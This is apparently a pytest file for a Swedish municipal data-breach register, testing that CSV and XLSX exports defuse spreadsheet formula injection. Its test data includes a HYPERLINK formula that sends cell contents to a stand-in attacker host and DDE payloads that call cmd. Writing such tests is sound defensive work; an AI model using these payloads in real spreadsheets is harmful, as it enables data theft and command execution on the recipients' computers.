"""The raw export for the data-protection network: one row per case, and no cell that a
spreadsheet would run as a formula."""

import csv
import io
from datetime import date, datetime

import pytest
from django.utils import timezone

from tests.web.reports.conftest import xlsx_rows
from varna.web.incidents import services
from varna.web.incidents.choices import ReporterKind
from varna.web.incidents.models import Board, Case
from varna.web.reports.documents.sheets import neutralise
from varna.web.reports.exporters.raw import HEADER, RawExport
from varna.web.reports.views import for_documents

pytestmark = pytest.mark.django_db

HOSTILE_TITLES = [
    '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(demo):
    board = Board.objects.get(code="BUN")
    for title in HOSTILE_TITLES:
        services.report_incident(
            services.Report(
                trigger="happened",
                title=title,
                description="Test av formelinjektion.",
                channel="other",
                discovered_at=timezone.now(),
                reporter_kind=ReporterKind.EMPLOYEE,
                reporter_name="Eva",
            ),
            boards=[board],
            reporter_user=demo.employee,
        )
    cases = list(for_documents(Case.objects.all()).order_by("aware_at", "pk"))
    return RawExport(cases, timezone.localdate(), "alla")


def test_no_xlsx_cell_starts_like_a_formula(hostile):
    rows = xlsx_rows(hostile.render("xlsx"))
    titles = [row[5] for row in rows[1:]]
    for title in HOSTILE_TITLES:
        assert "'" + title in titles
    for row in rows:
        for value in row:
            if isinstance(value, str):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_no_csv_cell_starts_like_a_formula(hostile):
    data = hostile.render("csv")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, so Excel reads å, ä and ö
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [h for h, _ in HEADER]
    titles = [row[5] for row in rows[1:]]
    for title in HOSTILE_TITLES:
        assert "'" + title in titles
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_numbers_and_dates_stay_numbers_and_dates(demo):
    case = for_documents(Case.objects.all()).get(pk=demo.alingsas.pk)
    rows = xlsx_rows(RawExport([case], date(2026, 1, 1), "BUN").render("xlsx"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Diarienummer"] == "2024.401 BUN"
    assert row["Antal berörda"] == 12
    assert row["Antal poster"] == 268
    assert row["Hur det gick till"] == "Synliga mottagare i e-post"
    assert row["E-post"] == "Ja"
    assert row["Beslut: anmälan till IMY"] == "Nej"
    assert isinstance(row["Nämnden fick kännedom"], datetime)
    assert row["Nämnden fick kännedom"] == datetime(2024, 11, 22, 8, 30)  # Swedish time
    assert row["Timmar från kännedom till beslut"] == 77.5
    assert row["Beslut inom 72 timmar"] == "Nej"


def test_it_exports_structured_facts_only(demo):
    case = for_documents(Case.objects.all()).get(pk=demo.trelleborg.pk)
    data = RawExport([case], date(2026, 1, 1), "KS").render("csv").decode("utf-8-sig")
    assert "SEFOS" not in data  # the description stays in the register
    assert "Medarbetare som tog emot mejlet" not in data  # and so does the reporter


def test_the_guard_leaves_harmless_values_alone():
    assert neutralise("Barn- och ungdomsnämnden") == "Barn- och ungdomsnämnden"
    assert neutralise("2024.401 BUN") == "2024.401 BUN"
    assert neutralise(-3) == -3
    assert neutralise(None) is None
